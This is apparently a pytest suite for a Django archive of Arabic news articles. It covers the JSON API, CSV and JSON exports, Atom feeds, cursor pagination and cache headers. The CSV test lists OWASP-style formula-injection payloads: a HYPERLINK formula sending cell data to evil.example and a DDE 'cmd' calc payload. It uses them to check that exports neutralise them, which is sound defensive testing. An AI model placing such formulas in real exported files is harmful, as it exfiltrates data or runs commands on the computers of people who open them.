"""The search as data: JSON API, CSV and JSON exports, Atom feeds."""

import base64
import csv
import datetime
import io
import json
import xml.etree.ElementTree as ET
from urllib.parse import urlencode

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from articles.models import Article, Location, Party, Source
from articles.search import index_articles
from articles.views import CappedPaginator

from .archive_data import RELATED_TITLE, SEED_TITLE, many_articles, mention

pytestmark = pytest.mark.django_db

ATOM = "{http://www.w3.org/2005/Atom}"


def streamed(response) -> bytes:
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def test_api_returns_the_filtered_articles_as_json(reader, archive):
    response = reader.get(reverse("api-article-list"), {"location": archive.daraa.pk})
    assert response.status_code == 200
    data = response.json()
    assert data["count"] == 2 and data["count_is_capped"] is False
    assert [item["title"] for item in data["results"]] == [SEED_TITLE, RELATED_TITLE]
    seed = data["results"][0]
    assert seed["source"] == "روزنة"
    assert seed["published"] == "2018-07-04"
    assert set(seed["places"]) == {"درعا", "طفس"}  # proposed and rejected left out
    assert set(seed["parties"]) == {"روسيا", "الجيش الحر"}
    assert seed["link"] == f"http://testserver{archive.seed.get_absolute_url()}"
    assert "درعا" in response.content.decode()  # readable UTF-8, not \\u escapes


def test_api_pages_keep_the_filters(reader, archive):
    many_articles(7, place=archive.tafas, party=archive.russia, source=archive.rozana)
    url = reverse("api-article-list")
    first = reader.get(url, {"party": archive.russia.pk, "page_size": 4}).json()
    assert first["count"] == 10 and first["pages"] == 3 and first["previous"] is None
    assert f"party={archive.russia.pk}" in first["next"] and "page_size=4" in first["next"]
    second = reader.get(first["next"]).json()
    assert second["count"] == 10 and second["page"] is None  # reached by a cursor, not a number
    # The same rows as page 2 by number: the cursor continues where page 1 ended.
    by_number = reader.get(url, {"party": archive.russia.pk, "page_size": 4, "page": 2}).json()
    assert second["results"] == by_number["results"]
    assert {a["id"] for a in first["results"]}.isdisjoint(a["id"] for a in second["results"])
    assert reader.get(second["previous"]).json()["results"] == first["results"]


@pytest.mark.parametrize(
    "params, field",
    [
        ({"location": "abc"}, "location"),
        ({"date_from": "2018-02-30"}, "date_from"),
        ({"page_size": "many"}, "page_size"),
    ],
)
def test_api_answers_bad_filters_with_a_message(reader, archive, params, field):
    response = reader.get(reverse("api-article-list"), params)
    assert response.status_code == 400
    data = response.json()
    assert data["error"]
    assert field in data["fields"]


def test_csv_export_opens_in_excel_with_arabic(reader, archive):
    response = reader.get(reverse("article-export-csv"), {"location": archive.daraa.pk})
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    content = streamed(response)
    assert content.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert [row["title"] for row in rows] == [SEED_TITLE, RELATED_TITLE]
    assert rows[0]["source"] == "روزنة"
    assert set(rows[0]["places"].split("؛ ")) == {"درعا", "طفس"}


# What a hostile or unlucky text may start with (OWASP's list of formula triggers).
FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"اضغط هنا")',
    "+1+cmd|' /C calc'!A0",
    "-5 قتلى في درعا",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_export_cells_never_begin_with_a_formula_character(reader, archive):
    source = Source.objects.create(name_ar="=مصدر")
    place = Location.objects.create(name_ar="+مكان", kind="town", parent=archive.daraa)
    party = Party.objects.create(name_ar="@طرف")
    for n, title in enumerate(FORMULAS):
        article = Article.objects.create(
            title=title,
            body="نص الخبر.",
            source=source,
            byline="-مراسل",
            url="=WEBSERVICE(1)",
            origin=f"=ملف{n}.txt",
            fingerprint=f"formula-{n}",
        )
        mention(article, place)
        mention(article, party)

    content = streamed(reader.get(reverse("article-export-csv"))).decode("utf-8-sig")

    rows = list(csv.reader(io.StringIO(content)))
    assert len(rows) == 1 + 3 + len(FORMULAS)
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    titles = {row["title"] for row in csv.DictReader(io.StringIO(content))}
    # Shown as the text it is, behind the apostrophe spreadsheets hide; other text untouched.
    assert {"'" + title for title in FORMULAS} <= titles
    assert "'-5 قتلى في درعا" in titles  # a number first reads as text too: accepted
    assert SEED_TITLE in titles
    hostile = next(r for r in csv.DictReader(io.StringIO(content)) if r["title"] == "'@SUM(1+1)")
    assert hostile["source"] == "'=مصدر" and hostile["byline"] == "'-مراسل"
    assert hostile["places"] == "'+مكان" and hostile["parties"] == "'@طرف"
    assert hostile["url"] == "'=WEBSERVICE(1)" and hostile["origin"].startswith("'=ملف")


def test_csv_export_of_a_bad_filter_is_refused_with_a_message(reader, archive):
    response = reader.get(reverse("article-export-csv"), {"party": "x"})
    assert response.status_code == 400
    assert "party" in response.json()["fields"]


def test_json_export_holds_every_result(reader, archive):
    many_articles(30, place=archive.homs, party=archive.russia, source=archive.skynews)
    response = reader.get(reverse("article-export-json"), {"location": archive.syria.pk})
    data = json.loads(streamed(response))
    assert len(data) == 33
    assert {item["title"] for item in data} >= {SEED_TITLE, RELATED_TITLE}


def test_search_feed_is_atom_of_the_filtered_articles(reader, archive):
    response = reader.get(reverse("article-feed"), {"source": archive.rozana.pk})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/atom+xml")
    feed = ET.fromstring(response.content)
    titles = [entry.find(f"{ATOM}title").text for entry in feed.iter(f"{ATOM}entry")]
    assert titles == [SEED_TITLE, RELATED_TITLE]
    link = feed.find(f"{ATOM}link").get("href")
    assert f"source={archive.rozana.pk}" in link


def test_place_feed_has_the_articles_about_the_place_and_below(reader, archive):
    response = reader.get(reverse("location-feed", args=[archive.daraa.pk]))
    feed = ET.fromstring(response.content)
    assert "درعا" in feed.find(f"{ATOM}title").text
    titles = [entry.find(f"{ATOM}title").text for entry in feed.iter(f"{ATOM}entry")]
    assert titles == [SEED_TITLE, RELATED_TITLE]


def test_feed_of_a_bad_filter_is_a_bad_request_that_says_which(reader, archive):
    response = reader.get(reverse("article-feed"), {"location": "abc", "date_from": "2018-02-30"})
    assert response.status_code == 400  # as the API and the exports answer (README)
    answer = response.json()
    assert answer["error"] == "بعض قيم المرشحات غير صالحة."  # the reader's language, Arabic
    assert set(answer["fields"]) == {"location", "date_from"}


# -- Every result through the API, past the capped count -----------------------------------------

CAP = 5  # CappedPaginator.CAP lowered: numbered pages end after 5 results, as after 10,000


@pytest.fixture
def deep_archive(archive, monkeypatch):
    """30 more articles: days shared by several, undated ones, some naming درعا twice."""
    monkeypatch.setattr(CappedPaginator, "CAP", CAP)
    articles = Article.objects.bulk_create(
        Article(
            title=f"تقرير {n}" + (" من درعا" if n % 4 == 0 else ""),
            body=f"قصف على درعا في اليوم {n}." + (" ريف درعا." if n % 3 == 0 else ""),
            published=None if n % 7 == 0 else datetime.date(2018, 1, 1 + n // 3),
            fingerprint=f"deep-{n}",
        )
        for n in range(30)
    )
    index_articles(articles)
    return archive


def newest_first(ids):
    rows = Article.objects.filter(pk__in=ids).values_list("pk", "published")
    return [
        pk
        for pk, day in sorted(rows, key=lambda r: (r[1] is None, r[1] and -r[1].toordinal(), -r[0]))
    ]


def oldest_first(ids):
    rows = Article.objects.filter(pk__in=ids).values_list("pk", "published")
    return [pk for pk, day in sorted(rows, key=lambda r: (r[1] is None, r[1], r[0]))]


ORDERS = {
    "newest first": ({}, lambda: newest_first(Article.objects.values("pk"))),
    "oldest first": ({"sort": "oldest"}, lambda: oldest_first(Article.objects.values("pk"))),
    "search, by relevance": (
        {"q": "درعا"},
        lambda: list(Article.objects.search("درعا").values_list("pk", flat=True)),
    ),
    "search, newest first": (
        {"q": "درعا", "sort": "newest"},
        lambda: newest_first(Article.objects.search("درعا").values("pk")),
    ),
}


def walk(reader, link, key="next"):
    """Follow the links from a page; every page's results and its JSON."""
    pages = []
    while link:
        data = reader.get(link).json()
        pages.append(data)
        link = data[key]
    return pages


@pytest.mark.parametrize("order", ORDERS)
def test_api_next_links_reach_every_result_once_past_the_capped_count(reader, deep_archive, order):
    params, expected = ORDERS[order]
    expected = expected()
    assert len(expected) > 3 * CAP

    pages = walk(reader, reverse("api-article-list") + "?" + urlencode({**params, "page_size": 3}))

    assert [item["id"] for page in pages for item in page["results"]] == expected
    assert all(page["count"] == CAP and page["count_is_capped"] for page in pages)
    assert pages[-1]["next"] is None and all(len(page["results"]) == 3 for page in pages[:-1])
    # And back: "previous" from the last page gives the same pages in reverse.
    back = walk(reader, pages[-1]["previous"], key="previous")
    assert [page["results"] for page in back] == [page["results"] for page in pages[-2::-1]]


def test_api_page_far_along_reads_no_more_rows_than_the_first(reader, deep_archive):
    """Past the numbered pages, a page starts where the last ended: no OFFSET, no growing cost."""
    url = reverse("api-article-list")
    with CaptureQueriesContext(connection) as first:
        link = reader.get(url, {"page_size": 3}).json()["next"]
    for _ in range(6):
        with CaptureQueriesContext(connection) as deep:
            link = reader.get(link).json()["next"]
    assert not [q["sql"] for q in deep.captured_queries if "OFFSET" in q["sql"].upper()]
    assert len(deep.captured_queries) <= len(first.captured_queries) + 1  # + undated rows


def encoded(text: str) -> str:
    return base64.urlsafe_b64encode(text.encode()).decode()


@pytest.mark.parametrize(
    "cursor",
    [
        pytest.param("not a cursor", id="not base64"),
        pytest.param(encoded("[1, 2]"), id="not an object"),
        pytest.param(encoded('{"order": "oldest", "published": null, "id": 3}'), id="other order"),
        pytest.param(encoded('{"order": "newest", "published": null, "id": 1e30}'), id="float id"),
        pytest.param(
            encoded('{"order": "newest", "published": null, "id": 99999999999999999999999}'),
            id="23-digit id",
        ),
        pytest.param(
            encoded('{"order": "newest", "published": "2018-02-30", "id": 3}'), id="no such day"
        ),
        pytest.param(
            encoded('{"order": "newest", "published": null, "id": 3, "backwards": "yes"}'),
            id="backwards not true or false",
        ),
    ],
)
def test_api_answers_a_bad_cursor_with_a_message(reader, deep_archive, cursor):
    response = reader.get(reverse("api-article-list"), {"cursor": cursor})  # newest first
    assert response.status_code == 400
    assert "cursor" in response.json()["fields"]


@pytest.mark.parametrize(
    "name, args",
    [
        ("api-article-list", []),
        ("article-export-csv", []),
        ("article-export-json", []),
        ("article-feed", []),
        ("location-feed", ["daraa"]),
    ],
)
def test_data_of_the_archive_is_never_kept_by_a_cache(reader, archive, name, args):
    """A shared computer's browser or a proxy must not keep the archive after logout."""
    response = reader.get(reverse(name, args=[getattr(archive, arg).pk for arg in args]))
    assert response.status_code == 200
    cache_control = {part.strip() for part in response["Cache-Control"].split(",")}
    assert {"private", "no-store"} <= cache_control
